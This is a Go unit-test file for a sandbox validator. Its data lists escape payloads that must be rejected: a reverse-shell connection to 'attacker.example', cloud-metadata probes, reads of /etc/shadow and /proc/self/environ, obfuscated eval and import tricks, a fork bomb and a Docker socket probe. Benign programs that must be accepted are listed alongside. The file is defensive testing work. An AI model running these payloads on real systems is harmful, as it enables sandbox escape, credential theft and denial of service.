package validator

import "testing"

// Payloads modeled on real sandbox-escape attempts. Every one of these
// must be stopped before a container is ever created; the isolation
// boundary is the backstop, not the first line of defense.
func TestValidate_EscapeAttemptsRejected(t *testing.T) {
	v := newValidator()

	tests := []struct {
		name     string
		language string
		source   string
	}{
		{
			"ptrace via ctypes",
			"python",
			"import ctypes\nctypes.CDLL(None).ptrace(0, 1, 0, 0)",
		},
		{
			"reverse shell",
			"python",
			"import socket,subprocess\ns=socket.socket()\ns.connect(('attacker.example',4444))",
		},
		{
			"cloud metadata probe",
			"python",
			"import urllib.request\nurllib.request.urlopen('http://169.254.169.254/')",
		},
		{
			"shell out via os.system",
			"python",
			"import os\nos.system('cat /etc/shadow')",
		},
		{
			"subprocess spawn",
			"python",
			"import subprocess\nsubprocess.run(['sh', '-c', 'id'])",
		},
		{
			"builtins eval indirection",
			"python",
			"getattr(__builtins__, 'ev' + 'al')('1')",
		},
		{
			"dunder import smuggling",
			"python",
			"__import__('o' + 's').listdir('/')",
		},
		{
			"proc filesystem poke",
			"python",
			"open('/proc/self/environ').read()",
		},
		{
			"child_process spawn",
			"javascript",
			"const cp = require('child_process');\ncp.execSync('id')",
		},
		{
			"filesystem module",
			"javascript",
			"const fs = require('fs');\nfs.readFileSync('/etc/passwd')",
		},
		{
			"process binding escape",
			"javascript",
			"process.binding('spawn_sync')",
		},
		{
			"network fetch",
			"javascript",
			"fetch('http://169.254.169.254/')",
		},
		{
			"dynamic require",
			"javascript",
			"require('child' + '_process')",
		},
		{
			"fork bomb",
			"shell",
			":(){ :|:& };:",
		},
		{
			"docker socket probe",
			"shell",
			"ls -la /var/run/docker.sock",
		},
		{
			"mount attempt",
			"shell",
			"mount /dev/sda1 /mnt",
		},
		{
			"outbound wget",
			"shell",
			"wget -q -O- http://example.com",
		},
	}

	for _, tt := range tests {
		t.Run(tt.language+"/"+tt.name, func(t *testing.T) {
			verdict := v.Validate(tt.source, tt.language)
			if verdict.Accepted {
				t.Errorf("payload accepted, want rejection:\n%s", tt.source)
			}
			if !verdict.Accepted && len(verdict.Violations) == 0 {
				t.Error("rejected with no violations recorded")
			}
		})
	}
}

// The same suite's benign counterparts must still pass, otherwise the
// deny layers are just a disabled sandbox.
func TestValidate_EscapeSuiteBenignCounterparts(t *testing.T) {
	v := newValidator()

	tests := []struct {
		name     string
		language string
		source   string
	}{
		{"plain print", "python", "print('hello world')"},
		{"math", "python", "import math\nprint(math.factorial(10))"},
		{"console log", "javascript", "console.log('hello world')"},
		{"array work", "javascript", "const xs = [3, 1, 2];\nconsole.log(xs.sort())"},
		{"echo", "shell", "echo 'hello world'"},
		{"tmp write", "shell", "echo data > /tmp/test.txt && cat /tmp/test.txt"},
	}

	for _, tt := range tests {
		t.Run(tt.language+"/"+tt.name, func(t *testing.T) {
			verdict := v.Validate(tt.source, tt.language)
			if !verdict.Accepted {
				t.Errorf("benign program rejected: %v", verdict.Violations)
			}
		})
	}
}
